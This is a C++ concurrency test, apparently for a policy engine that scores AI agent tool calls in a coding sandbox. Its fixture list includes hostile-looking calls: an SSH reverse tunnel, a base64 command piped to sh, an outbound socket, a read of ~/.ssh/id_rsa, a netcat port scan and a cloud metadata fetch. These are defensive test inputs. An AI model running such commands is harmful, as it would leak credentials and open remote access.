// One shared policy judged from many threads (run under TSan by
// scripts/sanitize.sh): several Evaluators sharing one PolicyPtr, and one
// Evaluator whose envs are driven by different threads. Every verdict must
// equal the single-threaded one, and episode state must not leak between
// envs.
#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "rewardguard/eval/evaluator.h"

namespace rewardguard {
namespace {

constexpr int kThreads = 8;
constexpr int kRounds = 20;

// A mix of calls that exercise the shell analyzer, URL and path
// classification, budgets (20 egress calls) and flows (secret then egress).
std::vector<std::pair<std::string, std::string>> Calls() {
  return {
      {"shell", R"({"command": "ls -la && git status"})"},
      {"shell", R"({"command": "ssh -R 9000:localhost:22 a@203.0.113.5"})"},
      {"shell", R"({"command": "echo c3NoIC1SIDE6YToyIGg= | base64 -d | sh"})"},
      {"shell", R"({"command": "python3 -c 'import socket;s=socket.socket();s.connect((\"1.2.3.4\",80))'"})"},
      {"read_file", R"({"path": "~/.ssh/id_rsa"})"},
      {"http_get", R"({"url": "https://pypi.org/simple/"})"},
      {"write_file", R"({"path": "src/main.py"})"},
      {"shell", R"({"command": "for i in $(seq 1 10); do nc -z 10.0.0.$i 22; done"})"},
      {"fetch", R"({"url": "http://169.254.169.254/latest/meta-data/"})"},
      {"shell", R"({"command": "cat README.md | grep -n foo > /tmp/out.txt"})"},
      {"no_such_tool", "{}"},
      {"shell", "not json"},
  };
}

// Everything a verdict says, comparable.
struct Summary {
  Action action;
  float penalty;
  std::vector<std::string> rules;
  std::vector<CapabilityId> capabilities;
  std::string reason;
  bool operator==(const Summary&) const = default;
};

Summary Summarize(const Verdict& v) {
  return {v.action, v.penalty, std::vector<std::string>(v.rules.begin(), v.rules.end()),
          std::vector<CapabilityId>(v.capabilities.begin(), v.capabilities.end()), v.reason};
}

// One episode: every call `kRounds` times in order, in env `env`.
std::vector<Summary> RunEpisode(Evaluator& e, int env) {
  const auto calls = Calls();
  std::vector<Summary> out;
  Verdict v;
  for (int r = 0; r < kRounds; ++r)
    for (const auto& [tool, args] : calls) {
      e.Evaluate(env, ToolCall{tool, args}, &v);
      out.push_back(Summarize(v));
    }
  return out;
}

PolicyPtr Sandbox() {
  auto p = LoadBuiltinPolicy("coding-sandbox");
  EXPECT_TRUE(p.ok()) << p.status();
  return *p;
}

TEST(Concurrency, EvaluatorsSharingOnePolicyMatchSingleThreaded) {
  PolicyPtr policy = Sandbox();
  Evaluator reference = *Evaluator::Create(policy, 1);
  const std::vector<Summary> expected = RunEpisode(reference, 0);

  std::vector<std::vector<Summary>> got(kThreads);
  std::atomic<bool> go{false};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      Evaluator e = *Evaluator::Create(policy, 1, {t % 2 ? Mode::kShadow : Mode::kEnforce});
      while (!go.load()) std::this_thread::yield();
      if (e.mode() == Mode::kShadow) RunEpisode(e, 0);  // different state, same policy
      e.ResetAll();
      Evaluator enforce = *Evaluator::Create(policy, 1);
      got[t] = RunEpisode(enforce, 0);
    });
  go = true;
  for (std::thread& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_TRUE(got[t] == expected) << "thread " << t;
}

TEST(Concurrency, OneEvaluatorWithOneEnvPerThreadMatchesSingleThreaded) {
  PolicyPtr policy = Sandbox();
  Evaluator reference = *Evaluator::Create(policy, 1);
  const std::vector<Summary> expected = RunEpisode(reference, 0);

  Evaluator shared = *Evaluator::Create(policy, kThreads);
  std::vector<std::vector<Summary>> got(kThreads);
  std::atomic<bool> go{false};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      while (!go.load()) std::this_thread::yield();
      got[t] = RunEpisode(shared, t);
    });
  go = true;
  for (std::thread& th : threads) th.join();
  for (int t = 0; t < kThreads; ++t) EXPECT_TRUE(got[t] == expected) << "env " << t;

  // Per-env resets from several threads touch only their env.
  threads.clear();
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      if (t % 2 == 0) shared.Reset(t);
    });
  for (std::thread& th : threads) th.join();
  const auto secret = policy->FindCapability("fs.read.secret");
  ASSERT_TRUE(secret.has_value());
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(shared.Seen(t, *secret), false) << t;
  const auto exec = policy->FindCapability("shell.exec");
  ASSERT_TRUE(exec.has_value());
  for (int t = 0; t < kThreads; ++t) EXPECT_EQ(shared.Seen(t, *exec), t % 2 == 1) << t;
}

TEST(Concurrency, PoliciesLoadedConcurrentlyAreEqual) {
  // The first use of the signature tables and built-ins races here.
  std::vector<std::thread> threads;
  std::vector<PolicyPtr> policies(kThreads);
  for (int t = 0; t < kThreads; ++t)
    threads.emplace_back([&, t] {
      policies[t] = Sandbox();
      Evaluator e = *Evaluator::Create(policies[t], 1);
      e.Evaluate(0, ToolCall::Raw("shell", "ssh -R 1:localhost:22 h"));
    });
  for (std::thread& th : threads) th.join();
  for (const PolicyPtr& p : policies) {
    ASSERT_NE(p, nullptr);
    EXPECT_EQ(p->rules().size(), policies[0]->rules().size());
  }
}

}  // namespace
}  // namespace rewardguard
